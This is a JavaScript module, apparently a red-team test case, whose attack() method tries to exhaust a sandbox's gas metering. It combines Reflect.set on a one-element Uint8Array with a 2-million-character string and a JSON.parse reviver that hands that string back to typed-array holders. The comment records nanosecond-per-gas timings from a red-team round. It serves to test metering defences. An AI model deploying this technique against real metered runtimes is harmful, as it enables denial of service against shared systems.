// Threat: `Reflect.set(t, 1, s, {})` with `t` one item long reads `s` as a
// number though the receiver is no typed array (red team round 31:
// 107,000 ns a gas), and V8 defines a reviver's answers on holders the
// reviver chose, a typed array among them (276,000 ns a gas).
class TypedArrayWrittenOutOfRange {
  init() {}

  attack() {
    const s = '1'.repeat(2 ** 21);
    const t = new Uint8Array(1);
    for (let i = 0; i < 2; i++) Reflect.set(t, 1, s, {});
    for (let i = 0; i < 100; i++) {
      JSON.parse('{"a":1,"b":2}', function revive(key, value) {
        if (key === 'a') this.b = new Uint8Array(1000);
        return this instanceof Uint8Array ? s : value;
      });
    }
    return 'written';
  }
}

module.exports = TypedArrayWrittenOutOfRange;
